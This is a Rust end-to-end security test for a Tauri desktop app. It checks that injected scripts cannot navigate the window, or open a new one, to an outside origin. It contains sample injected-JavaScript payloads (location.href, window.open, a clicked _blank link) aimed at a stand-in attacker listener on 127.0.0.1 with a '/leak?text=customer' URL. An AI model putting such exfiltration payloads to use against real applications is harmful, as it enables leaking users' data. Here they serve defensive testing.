//! No navigation away: a script in the page that sends the window (or a new one) to another
//! origin gets nowhere. A listener on 127.0.0.1 stands for the attacker's server: it receives
//! no request (WebKit may still open a connection ahead of a link's navigation, a preconnect
//! with nothing sent), and the window still shows the chair.

use std::io::Read;
use std::net::TcpListener;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use chair_e2e::{Result, Scenario, SAMPLE_PERSONA};

#[tokio::test(flavor = "multi_thread")]
async fn a_script_cannot_navigate_the_window_away() -> Result {
    let scenario = Scenario::new("navigation")?;
    let listener = TcpListener::bind("127.0.0.1:0")?;
    listener.set_nonblocking(true)?;
    let url = format!(
        "http://127.0.0.1:{}/leak?text=customer",
        listener.local_addr()?.port()
    );
    let reached = Arc::new(AtomicBool::new(false));
    let stop = Arc::new(AtomicBool::new(false));
    let watcher = {
        let (reached, stop) = (reached.clone(), stop.clone());
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                if let Ok((mut stream, _)) = listener.accept() {
                    // WebKit may open a connection ahead of a navigation it then refuses (a
                    // preconnect): what would leak is a request, so bytes are what count.
                    let _ = stream.set_nonblocking(false);
                    let _ = stream.set_read_timeout(Some(Duration::from_millis(1000)));
                    let mut buf = [0u8; 512];
                    if stream.read(&mut buf).is_ok_and(|n| n > 0) {
                        reached.store(true, Ordering::Relaxed);
                    }
                }
                std::thread::sleep(Duration::from_millis(20));
            }
        })
    };

    let mut app = scenario.launch_with_diane_in_the_chair().await?;
    // What an injected script would do: load the server's URL in this window, open it in a
    // new one, and have a link do it.
    let mut leaked = Vec::new();
    for (what, script) in [
        ("location.href", "location.href = u;"),
        ("window.open", "window.open(u, '_blank');"),
        (
            "a target=_blank",
            "const a = document.createElement('a'); a.href = u; \
             a.target = '_blank'; document.body.append(a); a.click(); a.remove();",
        ),
    ] {
        app.client()
            .execute(
                &format!("const u = arguments[0]; setTimeout(() => {{ {script} }}, 0);"),
                vec![serde_json::Value::String(url.clone())],
            )
            .await?;
        tokio::time::sleep(Duration::from_millis(1500)).await;
        if reached.swap(false, Ordering::Relaxed) {
            leaked.push(what);
        }
    }
    stop.store(true, Ordering::Relaxed);
    watcher.join().map_err(|_| "the listener thread panicked")?;
    assert!(leaked.is_empty(), "the page reached {url} by {leaked:?}");

    // Still the app, on its own page, showing the chair; and one window.
    let here: String = app
        .client()
        .execute("return location.href;", vec![])
        .await?
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(
        here.starts_with("tauri://localhost"),
        "the window is at {here}"
    );
    app.wait_text("chair-name", SAMPLE_PERSONA).await?;
    let windows = app.client().windows().await?;
    assert_eq!(windows.len(), 1, "a new window opened");
    app.screenshot("still-the-chair").await?;
    app.quit().await?;
    Ok(())
}
